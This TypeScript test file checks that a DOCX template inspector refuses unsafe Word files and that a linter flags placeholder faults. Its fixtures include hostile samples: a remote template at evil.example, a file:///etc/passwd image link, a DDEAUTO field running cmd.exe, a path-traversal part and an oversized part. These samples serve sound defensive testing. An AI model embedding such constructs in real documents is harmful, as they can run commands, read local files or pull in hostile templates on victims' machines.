import { strToU8, unzipSync, zipSync } from 'fflate';
import { layoutProfiles } from '../../schema/document/layout-profiles.js';
import { inspectDocx } from '../../server/document-template/inspect-docx.js';
import { lintTemplate } from '../../server/document-template/lint-template.js';
import { hd36 } from '../document/sample-document.js';
import { withBody, wordFile } from './word-files.js';

const lint = async (file: Buffer) => lintTemplate(await inspectDocx(file), hd36);
const RELATIONSHIPS = 'word/_rels/document.xml.rels';

/** A relationship more in the body. */
const related = (kind: string, target: string, mode = '') =>
  wordFile({
    [RELATIONSHIPS]: (xml) =>
      xml.replace(
        '</Relationships>',
        `<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" ${mode}/></Relationships>`,
      ),
  });

test('the starting file has neither faults nor remarks, whatever profile is in force', async () => {
  for (const { settings } of layoutProfiles) {
    expect(lintTemplate(await inspectDocx(await wordFile()), settings)).toEqual([]);
  }
});

test.each<[string, () => Promise<Buffer>, string]>([
  ['no ZIP', () => Promise.resolve(Buffer.from('%PDF-1.7')), 'DOCX_KIND_UNKNOWN'],
  ['an empty file', () => Promise.resolve(Buffer.alloc(0)), 'DOCX_KIND_UNKNOWN'],
  ['half a file', async () => (await wordFile()).subarray(0, 900), 'FILE_BROKEN'],
  ['no main part', () => wordFile({ 'word/document.xml': null }), 'DOCX_KIND_UNKNOWN'],
  ['macros', () => wordFile({ 'word/vbaProject.bin': 'x' }), 'DOCX_HAS_MACROS'],
  [
    'a macro-enabled type',
    () =>
      wordFile({
        '[Content_Types].xml': (xml) =>
          xml.replace(
            /application\/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml/,
            'application/vnd.ms-word.document.macroEnabled.main+xml',
          ),
      }),
    'DOCX_HAS_MACROS',
  ],
  [
    'an ActiveX control',
    () => wordFile({ 'word/activeX/activeX1.xml': '<x/>' }),
    'DOCX_HAS_MACROS',
  ],
  ['an embedded object', () => wordFile({ 'word/embeddings/a.xlsx': 'x' }), 'DOCX_UNSAFE'],
  ['an imported chunk', () => wordFile({ 'word/afchunk.htm': 'x' }), 'DOCX_UNSAFE'],
  [
    'a template elsewhere',
    () => related('attachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="External"'),
    'DOCX_UNSAFE',
  ],
  [
    'a picture elsewhere',
    () => related('image', 'file:///etc/passwd', 'TargetMode="External"'),
    'DOCX_UNSAFE',
  ],
  ['a frame', () => related('frame', 'x.htm'), 'DOCX_UNSAFE'],
  [
    'a field that runs a program',
    () =>
      withBody(
        '{{so}}',
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>',
      ),
    'DOCX_UNSAFE',
  ],
  [
    'a field that includes a file',
    () => withBody('<w:body>', '<w:body><w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'),
    'DOCX_UNSAFE',
  ],
  [
    'an entity',
    () => wordFile({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
    'DOCX_UNSAFE',
  ],
  ['a part beside the folder', () => wordFile({ '../evil.xml': '<x/>' }), 'FILE_BROKEN'],
  [
    'a bomb',
    () => wordFile({ 'word/theme/theme1.xml': ' '.repeat(30_000_000) }),
    'TEMPLATE_TOO_LARGE',
  ],
  [
    'hundreds of parts',
    async () => {
      const parts = unzipSync(await wordFile());
      for (let at = 0; at < 300; at += 1) parts[`word/header${at}.xml`] = strToU8('<x/>');
      return Buffer.from(zipSync(parts));
    },
    'TEMPLATE_TOO_LARGE',
  ],
])('a file with %s is refused', async (_, file, code) => {
  await expect(inspectDocx(await file())).rejects.toMatchObject({ code });
});

test('unknown and missing placeholders are named with their place', async () => {
  const findings = await lint(await withBody('{{nguoi_ky}}', '{{nguoi_ki}}'));

  expect(findings).toEqual([
    {
      code: 'TEMPLATE_PLACEHOLDER_UNKNOWN',
      isFault: true,
      params: { placeholder: '{{nguoi_ki}}' },
      place: { part: 'body', paragraph: expect.any(Number), excerpt: '{{nguoi_ki}}' },
    },
    {
      code: 'TEMPLATE_PLACEHOLDER_MISSING',
      isFault: true,
      params: { placeholder: '{{nguoi_ky}}' },
      place: null,
    },
  ]);
});

test.each([
  ['{{noi_dung}}', 'Nội dung: {{noi_dung}}', 'TEMPLATE_PLACEHOLDER_NOT_ALONE'],
  ['{{quyen_han}}', '{{quyen_han}} {{phu_luc}}', 'TEMPLATE_PLACEHOLDER_IN_TABLE'],
  ['{{trich_yeu}}', '{{trich_yeu}} {{so', 'TEMPLATE_BRACES_OPEN'],
  ['-----', '{{noi_dung}}', 'TEMPLATE_PLACEHOLDER_TWICE'],
  ['-----', '{{7*7}}', 'TEMPLATE_PLACEHOLDER_UNKNOWN'],
  ['-----', '{{#each x}}', 'TEMPLATE_PLACEHOLDER_UNKNOWN'],
  ['<w:t', '<w:ins w:id="1"/><w:t', 'TEMPLATE_HAS_REVISIONS'],
])('%s as %s is a fault', async (from, to, code) => {
  const findings = await lint(await withBody(from, to));

  expect(findings.filter(({ isFault }) => isFault).map((finding) => finding.code)).toContain(code);
});

test('a placeholder that may be left out, and another margin, are remarks', async () => {
  const file = await wordFile({
    'word/document.xml': (xml) => xml.replace('{{du_thao}}', '').replace('w:left="1701"', 'w:left="1134"'), // prettier-ignore
  });

  const findings = await lint(file);

  expect(findings.map(({ code, isFault, params }) => ({ code, isFault, params }))).toEqual([
    {
      code: 'TEMPLATE_PLACEHOLDER_MISSING',
      isFault: false,
      params: { placeholder: '{{du_thao}}' },
    },
    {
      code: 'TEMPLATE_PAGE_DIFFERS',
      isFault: false,
      params: { what: 'lề trái', found: 20, should: 30 },
    },
  ]);
});
